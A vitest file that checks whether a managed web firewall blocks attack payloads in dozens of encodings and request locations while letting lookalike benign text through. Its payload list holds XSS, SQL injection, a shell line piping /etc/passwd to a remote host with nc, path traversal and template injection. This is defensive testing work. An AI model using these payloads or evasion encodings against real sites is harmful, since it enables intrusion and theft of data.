// One payload, sent in the ways in which a site may still read it: each is refused, and the same way with other words passes.
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { managedWaf } from "../rules/managed/support.ts";
import { decisionOf, protect } from "../support/source/adapters/fetch.ts";
import { detectors } from "../support/source/detection/inspection.ts";

interface Delivery {
  readonly name: string;
  /** Undefined: no header line at all. */
  readonly type?: string | undefined;
  readonly coding?: "gzip";
  /** Header lines besides; a request without a body is a GET. */
  readonly headers?: (payload: string) => Readonly<Record<string, string>>;
  readonly target?: (payload: string) => string;
  readonly body?: (payload: string) => string | Uint8Array;
}

const form = (payload: string) => `title=x&text=${encodeURIComponent(payload)}`;
const json = (payload: string) => JSON.stringify({ title: "x", text: payload });
const xml = (payload: string) =>
  payload.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
/** As writers of JSON escape what means something in HTML. */
const unicode = (text: string) =>
  text.replace(/[<>&']/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);
/** Look-alikes that compatibility forms of Unicode make ASCII. */
const wide = (text: string) =>
  text.replace(/[!-~]/g, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0));
const references = (text: string) => text.replace(/\W/g, (unit) => `&#${unit.charCodeAt(0)};`);
const part = (lines: readonly string[], content: string) =>
  ["--frontier", ...lines, "", content, "--frontier--", ""].join("\r\n");
const field = (lines: readonly string[]) => (payload: string) =>
  part(['Content-Disposition: form-data; name="text"', ...lines], payload);
const file = (name: string, type: string, content: (payload: string) => string) => (payload: string) =>
  part(
    [`Content-Disposition: form-data; name="file"; filename="${name}"`, `Content-Type: ${type}`],
    content(payload),
  );
const base64 = (text: string | Uint8Array) => Buffer.from(text).toString("base64");
const base64url = (text: string) => Buffer.from(text).toString("base64url");
const token = (payload: string) =>
  [JSON.stringify({ alg: "HS256" }), JSON.stringify({ sub: payload, iat: 5 }), "a signature"]
    .map(base64url)
    .join(".");
const atLineSeven = (payload: string) =>
  `${[1, 2, 3, 4, 5, 6].map((line) => `line ${line} of the note\n`).join("")}${payload}\nand its end\n`;
/** A field of Protocol Buffers with a length, of at most 127 bytes. */
const lengthDelimited = (number: number, bytes: Uint8Array) =>
  Buffer.concat([Buffer.from([number * 8 + 2, bytes.length]), bytes]);
const protobuf = (payload: string) =>
  Buffer.concat([
    Buffer.from([8, 150, 1]),
    lengthDelimited(2, Buffer.from("Ada")),
    lengthDelimited(3, lengthDelimited(1, Buffer.from(payload))),
    // A number of eight bytes.
    Buffer.from([0x21]),
    Buffer.alloc(8, 0xff),
  ]);
const framed = (message: Uint8Array) => Buffer.concat([Buffer.from([0, 0, 0, 0, message.length]), message]);
const messagePack = (payload: string) =>
  Buffer.concat([
    Buffer.from([0x81, 0xa4]),
    Buffer.from("text"),
    Buffer.from([0xd9, payload.length]),
    Buffer.from(payload),
  ]);
const cbor = (payload: string) =>
  Buffer.concat([
    Buffer.from([0xa1, 0x64]),
    Buffer.from("text"),
    Buffer.from([0x78, payload.length]),
    Buffer.from(payload),
  ]);
const graphql = (payload: string) => `query q { find(text: ${JSON.stringify(payload)}) { id } }`;
const MULTIPART = "multipart/form-data; boundary=frontier";

const DELIVERIES: readonly Delivery[] = [
  { name: "form", type: "application/x-www-form-urlencoded", body: form },
  { name: "gzip form", type: "application/x-www-form-urlencoded", coding: "gzip", body: form },
  { name: "gzip JSON", type: "application/json", coding: "gzip", body: json },
  { name: "text/plain with a zero byte", type: "text/plain", body: (payload) => `note\0${payload}` },
  { name: "XML text", type: "application/xml", body: (payload) => `<a><b>${xml(payload)}</b></a>` },
  { name: "XML attribute", type: "application/xml", body: (payload) => `<a><b c="${xml(payload)}"/></a>` },
  { name: "CDATA", type: "text/xml", body: (payload) => `<a><![CDATA[${payload}]]></a>` },
  { name: "no Content-Type, form", type: undefined, body: form },
  { name: "no Content-Type, JSON", type: undefined, body: json },
  {
    name: "Base64 part",
    type: MULTIPART,
    body: (payload) =>
      part(
        ['Content-Disposition: form-data; name="text"', "Content-Transfer-Encoding: base64"],
        Buffer.from(payload).toString("base64"),
      ),
  },
  {
    name: "text/csv file",
    type: MULTIPART,
    body: (payload) =>
      part(
        ['Content-Disposition: form-data; name="file"; filename="people.csv"', "Content-Type: text/csv"],
        `id,name,note\r\n1,Ada,"${payload.replaceAll('"', '""')}"\r\n2,Grace,none`,
      ),
  },
  {
    name: "JSON in a text of JSON",
    type: "application/json",
    body: (payload) => JSON.stringify({ event: "save", payload: json(payload) }),
  },
  { name: "text/plain JSON with \\u003c", type: "text/plain", body: (payload) => unicode(json(payload)) },
  { name: "gRPC", type: "application/grpc", body: (payload) => framed(protobuf(payload)) },
  {
    name: "gRPC-web in Base64",
    type: "application/grpc-web-text",
    body: (payload) => base64(framed(protobuf(payload))),
  },
  { name: "Protocol Buffers", type: "application/x-protobuf", body: protobuf },
  { name: "MessagePack", type: "application/msgpack", body: messagePack },
  { name: "CBOR", type: "application/cbor", body: cbor },
  { name: "JSON file", type: MULTIPART, body: file("people.json", "application/json", json) },
  {
    name: "file of JSON lines",
    type: MULTIPART,
    body: file("people.ndjson", "application/x-ndjson", (payload) => `${json("none")}\n${json(payload)}\n`),
  },
  { name: "JSON lines", type: "application/x-ndjson", body: (payload) => `${json("x")}\n${json(payload)}` },
  {
    name: "JSON in a part",
    type: MULTIPART,
    body: (payload) => field(["Content-Type: application/json"])(json(payload)),
  },
  { name: "line of text/plain", type: "text/plain", body: atLineSeven },
  {
    name: "line of a field",
    type: "application/x-www-form-urlencoded",
    body: (payload) => form(atLineSeven(payload)),
  },
  {
    name: "type of a part",
    type: MULTIPART,
    body: (payload) =>
      part(
        ['Content-Disposition: form-data; name="f"; filename="f"', `Content-Type: application/${payload}`],
        "x",
      ),
  },
  {
    name: "name of a part",
    type: MULTIPART,
    body: (payload) =>
      part([`Content-Disposition: form-data; name="${payload.replaceAll('"', "%22")}"`], "x"),
  },
  {
    name: "name of a file",
    type: MULTIPART,
    body: (payload) =>
      part(
        [
          `Content-Disposition: form-data; name="f"; filename="${payload.replaceAll('"', "%22")}"`,
          "Content-Type: text/plain",
        ],
        "x",
      ),
  },
  {
    name: "GraphQL literal",
    type: "application/json",
    body: (payload) => JSON.stringify({ query: graphql(payload) }),
  },
  {
    name: "GraphQL batch",
    type: "application/json",
    body: (payload) => JSON.stringify([{ query: "{ a }" }, { query: graphql(payload) }]),
  },
  {
    name: "GraphQL variables as text",
    type: "application/json",
    body: (payload) => JSON.stringify({ query: "{ a }", variables: json(payload) }),
  },
  { name: "application/graphql", type: "application/graphql", body: graphql },
  {
    name: "GraphQL in the query",
    target: (payload) => `/graphql?query=${encodeURIComponent(graphql(payload))}`,
  },
  { name: "Base64", target: (payload) => `/?q=${encodeURIComponent(base64(payload))}` },
  { name: "Base64 for URLs", target: (payload) => `/?q=${base64url(payload)}` },
  {
    name: "Base64 of escapes",
    target: (payload) => `/?q=${encodeURIComponent(base64(encodeURIComponent(payload)))}`,
  },
  {
    name: "Base64 in escapes",
    target: (payload) =>
      `/?q=${encodeURIComponent(base64(payload).replace(/./g, (digit) => `\\u00${digit.charCodeAt(0).toString(16)}`))}`,
  },
  {
    name: "data: URL",
    target: (payload) => `/?q=${encodeURIComponent(`data:text/plain;base64,${base64(payload)}`)}`,
  },
  { name: "parameter of a segment", target: (payload) => `/map;view=${encodeURIComponent(payload)}/tiles` },
  { name: "name of an argument", target: (payload) => `/?${encodeURIComponent(payload)}=1` },
  { name: "name of a cookie", headers: (payload) => ({ Cookie: `a=1; ${encodeURIComponent(payload)}=1` }) },
  {
    name: "query of the Referer",
    headers: (payload) => ({ Referer: `https://a.example/?q=${encodeURIComponent(payload)}` }),
  },
  {
    name: "fragment of the Referer",
    headers: (payload) => ({ Referer: `https://a.example/#${encodeURIComponent(payload)}` }),
  },
  {
    name: "query of Origin",
    headers: (payload) => ({ Origin: `https://a.example/?q=${encodeURIComponent(payload)}` }),
  },
  {
    name: "Forwarded",
    headers: (payload) => ({ Forwarded: `for="${payload.replaceAll('"', '\\"')}";proto=https` }),
  },
  { name: "X-Forwarded-For", headers: (payload) => ({ "X-Forwarded-For": `198.51.100.7, ${payload}` }) },
  { name: "X-Forwarded-Host", headers: (payload) => ({ "X-Forwarded-Host": payload }) },
  {
    name: "Basic credentials",
    headers: (payload) => ({ Authorization: `Basic ${base64(`ada:${payload}`)}` }),
  },
  {
    name: "Digest credentials",
    headers: (payload) => ({
      Authorization: `Digest username="${payload.replaceAll('"', '\\"')}", realm="r"`,
    }),
  },
  { name: "quotes, in wide forms", target: (payload) => `/?q=${encodeURIComponent(`"${wide(payload)}"`)}` },
  {
    name: "quotes, as character references",
    type: "application/json",
    body: (payload) => JSON.stringify({ text: `"${references(payload)}"` }),
  },
  {
    name: "escapes in quotes behind two more layers",
    headers: (payload) => ({
      "X-Note": encodeURIComponent(encodeURIComponent(unicode(JSON.stringify(payload)))),
    }),
  },
  {
    name: "escapes in quotes behind escapes of units",
    headers: (payload) => ({
      Cookie: `a=${unicode(JSON.stringify(payload)).replace(/[\\"]/g, (sign) => `%u00${sign.charCodeAt(0).toString(16)}`)}`,
    }),
  },
  { name: "Base64 behind a label", target: (payload) => `/?q=v1.${base64url(payload)}` },
  { name: "claim of a bearer token", headers: (payload) => ({ Authorization: `Bearer ${token(payload)}` }) },
  { name: "claim of a token in a cookie", headers: (payload) => ({ Cookie: `session=${token(payload)}` }) },
];

/** One of each language that is read. */
const PAYLOADS: Readonly<Record<string, string>> = {
  html: '<img src=x onerror="alert(document.domain)">',
  sql: "x' union select login, secret from members -- ",
  shell: "photo.png; cat /etc/passwd | nc 203.0.113.5 4444",
  path: "../../../../etc/passwd",
  template: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
};
/** What finds them; the rules before these saw neither text files nor past a zero byte. */
const KINDS = [
  ...["xss-event-attribute", "sqli-union-select", "rce-chained-command", "traversal-to-system-file"],
  "ssti-python",
];
const known = new Set(detectors.flatMap(({ kinds }) => kinds.map(({ name }) => name)));
const areKnown = KINDS.every((kind) => known.has(kind));
const ORDINARY = [
  'The "new" bridge opens in May; Tom & Jane said so at <noon>',
  "O'Brien & Sons, 5 > 3 (see ../README)",
  "SELECT your seat; drop us a line -- thanks",
  "photo.png; cat.jpg | dog.gif",
];

const handle = protect(managedWaf({}, "request"), (request) => new Response(decisionOf(request)?.action));

/** Whether the site does not see the request. */
async function isRefused(
  { type, coding, headers: own, target, body }: Delivery,
  payload: string,
): Promise<boolean> {
  const headers = new Headers({
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    Accept: "*/*",
    "Accept-Language": "en",
    ...own?.(payload),
  });
  if (type !== undefined) headers.set("Content-Type", type);
  if (coding !== undefined) headers.set("Content-Encoding", coding);
  const url = `https://shop.example${target?.(payload) ?? "/items"}`;
  if (body === undefined) return (await handle(new Request(url, { headers }))).status === 403;
  const sent = body(payload);
  // Bytes have no type of their own, so that none is added where none is meant.
  const bytes = typeof sent === "string" ? Buffer.from(sent, "utf8") : Buffer.from(sent);
  const request = new Request(url, {
    method: "POST",
    headers,
    body: coding === "gzip" ? gzipSync(bytes) : bytes,
  });
  const answer = await handle(request);
  // Clients of gRPC are told so.
  return answer.status === 403 || answer.headers.get("grpc-status") === "7";
}

describe.each(DELIVERIES)("$name", (delivery) => {
  test.runIf(areKnown).each(Object.entries(PAYLOADS))("refused with %s", async (_language, payload) => {
    expect(await isRefused(delivery, payload)).toBe(true);
  });

  test.each(ORDINARY)("passes with an ordinary text: %s", async (text) => {
    expect(await isRefused(delivery, text)).toBe(false);
  });
});
